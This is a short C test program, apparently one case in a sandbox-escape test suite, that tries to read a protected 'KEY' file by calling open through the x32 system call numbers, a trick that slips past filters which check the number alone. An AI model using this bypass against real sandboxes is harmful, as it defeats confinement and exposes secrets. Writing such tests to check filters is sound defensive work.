// Opens the key by the x32 numbers, which a filter that compares numbers alone lets through.
// class: OS sandboxes: other system call tables
// plain: leak
// inside: signal 31
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const int fd = (int)syscall(0x40000000 + SYS_open, fact("KEY"), O_RDONLY);
  if (fd < 0 && !inside()) needs("x32");
  drain_and_close(fd, "x32 open");
  return 0;
}
